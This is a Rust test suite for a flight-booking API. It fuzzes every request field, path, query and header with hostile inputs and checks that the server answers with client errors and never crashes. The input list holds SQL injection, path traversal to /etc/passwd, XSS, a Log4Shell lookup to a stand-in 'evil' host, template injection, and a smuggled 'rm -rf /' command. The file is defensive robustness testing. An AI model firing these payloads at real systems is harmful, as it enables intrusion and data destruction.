//! Hostile values in every field, parameter and path: never our fault, always a problem.

use reqwest::Method;
use serde_json::{Value, json};

use crate::call::Answer;
use crate::journeys::{DAY, adult, payments, request};
use crate::site::{Site, new_user};

/// What nobody should send. As text it goes into paths and queries too.
fn hostile() -> Vec<Value> {
    let mut values = vec![
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(1e300),
        json!(u64::MAX),
        json!(i64::MIN),
        json!([]),
        json!({}),
        json!([[[[null]]]]),
        json!({"a": {"b": [1, {"$ne": null}]}}),
        deep(100),
        json!("x".repeat(20_000)),
    ];
    values.extend(TEXTS.iter().map(|text| json!(text)));
    values
}

const TEXTS: &[&str] = &[
    "",
    " ",
    "\u{0}",
    "\u{1b}[31m\r\nSet-Cookie: a=b",
    "' OR 1=1; DROP TABLE bookings; --",
    "\"; SELECT pg_sleep(10); --",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "%00%2e%2e%2f",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
    "😀🛫\u{202e}\u{feff}e\u{301}",
    "ﬁ İ ß ǅ",
    "null",
    "-1",
    "NaN",
    "99999999999999999999999999999999",
    "1e9999",
    "0000-00-00",
    "+010000-01-01",
    "2026-13-45T99:99:99Z",
    "pm_card_visa; rm -rf /",
    "http://[::1",
    "%",
    "a&b=c#d",
];

fn deep(levels: usize) -> Value {
    (0..levels).fold(json!(1), |inside, _| json!([inside]))
}

#[actix_web::test]
async fn hostile_values_in_any_field_of_any_body_are_the_callers_fault() {
    let site = Site::start().await;
    let asha = site.sign_up("Asha").await;
    let offer = asha.offer("6E", "DEL-BOM", DAY).await;
    let open = asha.book(&[&offer], &[adult("Asha")]).await;
    let paid = asha.buy(&[&offer], &[adult("Asha")]).await;
    let quote = asha.quote(&paid, &json!({})).await.expect(201);

    let full = json!({
        "offers": [offer["id"]],
        "passengers": [{
            "given_name": "Asha", "middle_name": null, "family_name": "Rao", "gender": "FEMALE",
            "date_of_birth": "1990-05-01", "seat_preference": "WINDOW", "seats": [null],
            "hand_baggage_kg": 7, "extra_baggage_kg": 5, "infant_of": null,
        }],
        "extra_baggage_mode": "PREPAID",
        "contact": {"email": "asha@example.com", "phone": "+91 98765 43210"},
        "promo_code": "WELCOME10",
    });
    let search = json!({
        "origin": "DEL", "destination": "BOM", "departure_date": DAY, "return_date": DAY,
        "adults": 1, "children": 0, "infants": 0, "cabin": "ECONOMY", "max_stops": 1,
        "airlines": ["6E"], "exclude_airlines": ["SG"], "flight_number": "6E95",
        "max_price": 1_000_000, "max_duration": 600, "departure_window": "MORNING",
        "arrival_window": "05:00-23:00", "min_layover": 60, "max_layover": 300, "via": "BLR",
        "refundable": true, "checked_baggage": true, "sort": "PRICE", "limit": 5,
    });
    let slices = json!({"slices": [{"origin": "DEL", "destination": "BOM", "date": DAY}]});
    let mut user = new_user("Ravi");
    user["phone"] = json!("+91 98765 43210");
    let cancellations = format!("{}/cancellations", crate::journeys::path(&paid));
    let confirm = format!("/v1/cancellations/{}/confirm", quote["id"].as_str().unwrap());
    let bodies = [
        ("/v1/users", user),
        ("/v1/sessions", json!({"email": "asha@example.com", "password": "wrong horse"})),
        ("/v1/sessions/refresh", json!({"refresh_token": "nobody's"})),
        ("/v1/api-keys", json!({})),
        ("/v1/offers/search", search),
        ("/v1/offers/search", slices),
        ("/v1/bookings", full),
        (&payments(&open), json!({"payment_method": "pm_card_x", "return_url": "http://x"})),
        (&cancellations, json!({"journeys": ["DEPARTING"], "ticket_id": "nobody"})),
        (&confirm, json!({"x": 1})),
    ];
    for (path, body) in &bodies {
        for changed in variations(body) {
            let answer = asha.post(path, &changed).once().await;
            assert_callers_fault(&answer, &format!("POST {path} {changed:.300}"));
        }
    }
    // All that was true before still is.
    assert_eq!(asha.booking(&paid).await["status"], "CONFIRMED");
}

#[actix_web::test]
async fn hostile_text_in_any_path_or_query_is_the_callers_fault() {
    let site = Site::start().await;
    let asha = site.sign_up("Asha").await;
    let paths = [
        "/v1/airports/{}",
        "/v1/airlines/{}",
        "/v1/flights/{}",
        "/v1/offers/{}/seat-map",
        "/v1/bookings/{}",
        "/v1/bookings/{}/payments",
        "/v1/bookings/{}/documents",
        "/v1/cancellations/{}",
        "/v1/documents/{}",
        "/v1/documents/{}?expires=1&signature=x",
        "/{}",
        "/v1/{}",
        "/sandbox/payments/{}",
    ];
    let queries = [
        ("/v1/airports", "q country limit cursor"),
        ("/v1/airlines", "limit cursor"),
        ("/v1/flights", "flight_number origin destination airline limit cursor"),
        (
            "/v1/offers",
            "origin destination departure_date return_date adults children infants cabin \
             max_stops airlines exclude_airlines flight_number max_price max_duration \
             departure_window arrival_window min_layover max_layover via refundable \
             checked_baggage sort limit cursor",
        ),
        ("/v1/bookings", "status limit cursor"),
        ("/v1/api-keys", "limit cursor"),
        ("/v1/documents/0198c0de-0000-7000-8000-000000000001", "expires signature"),
        ("/payments/return", "token"),
    ];
    let mut texts: Vec<_> = TEXTS.iter().map(|text| encode(text)).collect();
    texts.extend(["%ff%fe".to_owned(), "%".to_owned(), "x".repeat(5_000)]);
    for text in &texts {
        for path in paths {
            let address = path.replace("{}", text);
            let is_page = path.starts_with("/sandbox");
            let address = if is_page { site.gateway_url() + &address } else { address };
            let answer = asha.get(&address).await;
            let status = answer.status;
            assert!(status < 500, "GET {address:.300}: {}", answer.text());
            if status >= 400 && !is_page {
                answer.problem();
            }
        }
        for (path, names) in queries {
            for name in names.split_whitespace() {
                let answer = asha.get(&format!("{path}?{name}={text}")).await;
                assert_callers_fault(&answer, &format!("GET {path}?{name}={text:.300}"));
            }
        }
    }
    for method in [Method::DELETE, Method::POST, Method::PUT, Method::PATCH, Method::OPTIONS] {
        for text in texts.iter().take(8) {
            for path in ["/v1/api-keys/{}", "/v1/bookings/{}", "/v1/cancellations/{}/confirm"] {
                let address = path.replace("{}", text);
                let answer = asha.call(method.clone(), &address).once().await;
                assert_callers_fault(&answer, &format!("{method} {address}"));
            }
        }
    }
}

#[actix_web::test]
async fn hostile_headers_are_the_callers_fault() {
    let site = Site::start().await;
    let asha = site.sign_up("Asha").await;
    let offer = asha.offer("6E", "DEL-BOM", DAY).await;
    let body = request(&[&offer], &[adult("Asha")]);
    for key in ["", " ", "\"", "\"\"", "a b", "é", &"k".repeat(256)] {
        let answer = asha.post("/v1/bookings", &body).key(key).await;
        answer.refused(400, "invalid_idempotency_key");
    }
    for bearer in
        ["", " ", "air_test_", "é", "a.b.c", "eyJhbGciOiJub25lIn0.e30.", &"x".repeat(8_000)]
    {
        let answer = site.anybody().get("/v1/users/me").header("Authorization", bearer).await;
        answer.refused(401, "unauthorized");
        let bearer = format!("Bearer {bearer}");
        let answer = site.anybody().get("/v1/users/me").header("Authorization", &bearer).await;
        answer.refused(401, "unauthorized");
    }
    for id in ["", "a b", "é", "<script>", &"x".repeat(5_000)] {
        let answer = asha.get("/v1/users/me").header("X-Request-Id", id).await;
        answer.expect_ok();
        assert!(answer.header("x-request-id").is_some_and(|it| it.len() <= 200), "{id:.20}");
    }
}

#[actix_web::test]
async fn bodies_that_are_too_large_or_no_json_are_told_so() {
    let site = Site::start().await;
    let asha = site.sign_up("Asha").await;
    for path in ["/v1/users", "/v1/sessions", "/v1/offers/search", "/v1/bookings"] {
        let post = |body: Vec<u8>| asha.call(Method::POST, path).once().raw_body(body);
        post(vec![b' '; 300_000]).await.refused(413, "payload_too_large");
        for malformed in ["", "{", "{\"a\":}", "[1,", "nul", "\u{feff}{}", "{'a': 1}"] {
            post(malformed.into()).await.refused(400, "malformed_json");
        }
        post(vec![0xff, 0xfe]).await.refused(400, "malformed_json");
        let nested = [b"[".repeat(100_000), b"]".repeat(100_000)].concat();
        let answer = post(nested).await;
        assert_callers_fault(&answer, path);
        assert!(answer.status >= 400);
        let text = asha.call(Method::POST, path).once().header("Content-Type", "text/plain");
        let text = text.await;
        assert!([400, 415].contains(&text.status), "{}", text.text());
    }
    asha.get("/v1/users/me").await.expect_ok();
}

/// The body with each hostile value in the place of each of its values, and beside them.
fn variations(body: &Value) -> Vec<Value> {
    let mut varied: Vec<_> = hostile();
    let mut pointers = Vec::new();
    collect(body, "", &mut pointers);
    for pointer in &pointers {
        for value in hostile() {
            let mut changed = body.clone();
            *changed.pointer_mut(pointer).unwrap() = value;
            varied.push(changed);
        }
    }
    for name in ["", "\u{0}", "__proto__", "~1/~0"] {
        let mut changed = body.clone();
        changed[name] = json!(1);
        varied.push(changed);
    }
    varied
}

/// Pointers to every value inside.
fn collect(value: &Value, at: &str, pointers: &mut Vec<String>) {
    let inner: Vec<(String, &Value)> = match value {
        Value::Object(fields) => fields.iter().map(|(name, it)| (name.clone(), it)).collect(),
        Value::Array(items) => {
            items.iter().enumerate().map(|(n, it)| (n.to_string(), it)).collect()
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Vec::new(),
    };
    for (name, value) in inner {
        let pointer = format!("{at}/{name}");
        collect(value, &pointer, pointers);
        pointers.push(pointer);
    }
}

#[track_caller]
fn assert_callers_fault(answer: &Answer, what: &str) {
    assert!(answer.status < 500, "{what}: {} {}", answer.status, answer.text());
    if answer.status >= 400 {
        answer.problem();
    }
}

fn encode(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}
